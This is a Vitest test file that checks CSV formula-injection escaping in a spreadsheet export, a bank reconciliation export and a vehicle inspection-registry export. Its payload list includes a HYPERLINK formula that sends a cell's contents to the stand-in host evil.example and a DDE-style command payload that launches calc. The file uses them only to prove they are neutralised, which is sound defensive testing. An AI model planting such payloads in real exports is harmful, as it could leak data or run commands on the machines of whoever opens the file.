import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { spreadsheetCsv } from '../../src/csv/spreadsheet-csv.js';
import { reconciliationCsv } from '../../src/finance/csv-export.js';
import { registryCsv } from '../../src/escalation/registry-csv.js';

/** Attack: text from a bank statement, a camera or an import file crafted to run as a spreadsheet formula in an export. */
const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"xem")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1'];

describe('CSV formula injection', () => {
  it('no exported text cell starts with = + - @ or a tab', () => {
    const csv = spreadsheetCsv(PAYLOADS.map((p) => [p, 42, -5]));
    const rows = parse(csv) as string[][];
    for (const [i, row] of rows.entries()) {
      expect(row[0]).toBe(`'${PAYLOADS[i]}`);
      expect(row[1]).toBe('42');
      expect(row[2]).toBe('-5');
    }
  });

  it('a bank reference crafted as a formula is neutralised in the reconciliation export', () => {
    const csv = reconciliationCsv({ outcomes: [{ line: 2, status: 'unmatched', reason: 'unknown_notice', message: '=1+1', reference: '=HYPERLINK("x")', amount: 100 }] } as never);
    const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
    expect(rows[0]!['Mã giao dịch']).toBe(`'=HYPERLINK("x")`);
    expect(rows[0]!['Chi tiết']).toBe(`'=1+1`);
  });

  it('the inspection-registry export neutralises formula cells', () => {
    const csv = registryCsv([{ plate: '@evil', vehicleType: 'car', noticeNumber: '=1', violationDate: '2026-01-01', dueDate: '2026-01-21',
      escalatedAt: '2026-01-22', liftedAt: null }] as never);
    expect(csv).not.toMatch(/(^|,)[=@]/m);
  });
});
